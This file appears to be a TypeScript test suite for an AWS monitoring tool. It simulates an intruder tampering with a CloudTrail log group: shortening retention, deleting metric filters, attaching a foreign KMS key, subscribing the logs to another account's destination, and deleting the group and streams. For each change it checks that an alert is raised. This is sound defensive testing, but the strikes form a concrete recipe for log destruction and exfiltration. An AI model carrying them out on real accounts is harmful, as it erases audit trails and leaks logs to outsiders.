import {
  AssociateKmsKeyCommand,
  CreateLogStreamCommand,
  DeleteLogGroupCommand,
  DeleteLogStreamCommand,
  DeleteMetricFilterCommand,
  DeleteRetentionPolicyCommand,
  DescribeLogGroupsCommand,
  DescribeMetricFiltersCommand,
  DescribeSubscriptionFiltersCommand,
  PutRetentionPolicyCommand,
  PutSubscriptionFilterCommand,
} from '@aws-sdk/client-cloudwatch-logs'
import { type Attack, account, attackHarness, type Intruder } from './attack-harness.ts'
import { trailsWhole } from './states.ts'

const logGroupName = '/aws/cloudtrail/management-events'
const filterName = 'trail-changes'

const withoutTimes = (items: object[] = []) =>
  items.map((item) => Object.entries(item).filter(([name]) => name !== 'creationTime'))

async function everything(by: Intruder) {
  const logs = by.logs()
  const [trails, groups, metrics, subscriptions] = await Promise.all([
    trailsWhole(by),
    logs.send(new DescribeLogGroupsCommand({ logGroupNamePrefix: logGroupName })),
    logs.send(new DescribeMetricFiltersCommand({ logGroupName })),
    logs.send(new DescribeSubscriptionFiltersCommand({ logGroupName })),
  ])
  return {
    trails,
    groups: withoutTimes(groups.logGroups),
    metrics: withoutTimes(metrics.metricFilters),
    subscriptions: withoutTimes(subscriptions.subscriptionFilters),
  }
}

const attacks: Attack[] = [
  {
    name: 'PutRetentionPolicy: a day',
    strike: ({ logs }) => logs().send(new PutRetentionPolicyCommand({ logGroupName, retentionInDays: 1 })),
    ends: 'alerted',
    event: 'PutRetentionPolicy',
    says: ['log group retention: {"retentionInDays":365} → {"retentionInDays":1}'],
  },
  {
    name: 'DeleteRetentionPolicy: kept for ever',
    strike: ({ logs }) => logs().send(new DeleteRetentionPolicyCommand({ logGroupName })),
    ends: 'benign',
    mend: ({ logs }) => logs().send(new PutRetentionPolicyCommand({ logGroupName, retentionInDays: 365 })),
  },
  {
    name: 'DeleteMetricFilter',
    strike: ({ logs }) => logs().send(new DeleteMetricFilterCommand({ logGroupName, filterName })),
    ends: 'alerted',
    event: 'DeleteMetricFilter',
    says: ['metric filters: ', 'aws logs put-metric-filter'],
  },
  {
    name: 'AssociateKmsKey: a key of theirs',
    strike: ({ logs }) =>
      logs().send(
        new AssociateKmsKeyCommand({
          logGroupName,
          kmsKeyId: 'arn:aws:kms:us-east-1:999999999999:key/theirs',
        }),
      ),
    ends: 'alerted',
    event: 'AssociateKmsKey',
    says: ['log group key: none → ', 'aws logs disassociate-kms-key'],
  },
  {
    name: 'PutSubscriptionFilter: to another account',
    strike: ({ logs }) =>
      logs().send(
        new PutSubscriptionFilterCommand({
          logGroupName,
          filterName: 'theirs',
          filterPattern: '',
          destinationArn: 'arn:aws:logs:us-east-1:999999999999:destination:theirs',
        }),
      ),
    ends: 'alerted',
    event: 'PutSubscriptionFilter',
    says: ['subscription filters: none → ', 'aws logs delete-subscription-filter'],
  },
  {
    name: 'DeleteLogGroup',
    strike: ({ logs }) => logs().send(new DeleteLogGroupCommand({ logGroupName })),
    ends: 'alerted',
    event: 'DeleteLogGroup',
    says: [
      'log group: there → none',
      'aws logs create-log-group',
      'aws logs put-retention-policy',
      'aws logs put-metric-filter',
    ],
  },
  {
    name: 'DeleteLogStream',
    strike: async ({ logs }) => {
      const logStreamName = `${account}_CloudTrail_us-east-1`
      await logs().send(new CreateLogStreamCommand({ logGroupName, logStreamName }))
      await logs().send(new DeleteLogStreamCommand({ logGroupName, logStreamName }))
    },
    ends: 'told',
    event: 'DeleteLogStream',
  },
]

attackHarness({ everything, attacks })
